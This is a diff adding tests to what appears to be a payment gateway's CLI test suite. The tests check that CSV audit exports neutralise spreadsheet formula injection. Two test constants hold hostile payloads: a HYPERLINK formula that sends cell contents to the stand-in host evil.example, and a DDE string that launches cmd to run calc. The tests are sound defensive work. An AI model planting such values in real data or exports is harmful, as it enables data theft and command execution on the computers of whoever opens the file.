@@ -33,6 +33,9 @@ describe('gerbang serve with a bad setting', () => {
   });
 });
 
+const HOSTILE_CLIENT_ID = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
+const HOSTILE_ORIGIN = '@SUM(1+1)*cmd|/C calc!A0';
+
 forEachBackend('gerbang client and audit commands', (db) => {
   it('creates a client, printing the secret once as JSON, then lists and disables it', async () => {
     const env = { GERBANG_DATABASE_URL: db.url() };
@@ -96,6 +99,11 @@ forEachBackend('gerbang client and audit commands', (db) => {
         transactionId = body.transactionId as string;
         const res = await gw.request('/v1/transfers', { json: body, headers: { authorization: `Bearer ${token}` } });
         expect(res.status).to.equal(201);
+        // An anonymous caller chooses its client_id and Origin: both reach the audit, and so the export.
+        const anonymous = await gw.request('/v1/auth/token', { json: { client_id: HOSTILE_CLIENT_ID, client_secret: 'x' } });
+        expect(anonymous.status).to.equal(401);
+        const foreign = await gw.request('/v1/auth/token', { json: { client_id: 'x', client_secret: 'x' }, headers: { origin: HOSTILE_ORIGIN } });
+        expect(foreign.status).to.equal(403);
       } finally {
         await gw.close();
       }
@@ -120,6 +128,15 @@ forEachBackend('gerbang client and audit commands', (db) => {
       expect(Number(transfer.bankCallCount)).to.be.greaterThan(0);
       expect(JSON.parse(transfer.bankCalls)[0]).to.have.property('operation');
       expect(JSON.parse(transfer.requestBody).transactionId).to.equal(transactionId);
+    });
+
+    it('neutralises cells a spreadsheet would run as formulas (client_id and Origin from anonymous callers)', async () => {
+      const result = await runCli(['audit', 'export', '--format', 'csv', '--from', '2000-01-01'], { GERBANG_DATABASE_URL: db.url(), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY });
+      expect(result.code, result.stderr).to.equal(0);
+      const rows = parse(result.stdout, { columns: true, bom: true }) as Record<string, string>[];
+      expect(rows.find((r) => r.clientId === `'${HOSTILE_CLIENT_ID}`), 'the anonymous request is exported, its client_id kept as text').to.exist;
+      expect(rows.find((r) => r.origin === `'${HOSTILE_ORIGIN}`), 'the refused Origin is exported as text').to.exist;
+      for (const row of rows) for (const cell of Object.values(row)) expect(cell, 'no cell starts a formula').to.not.match(/^[=+\-@\t\r]/);
     });
 
     it('exports nothing for a window before any record', async () => {
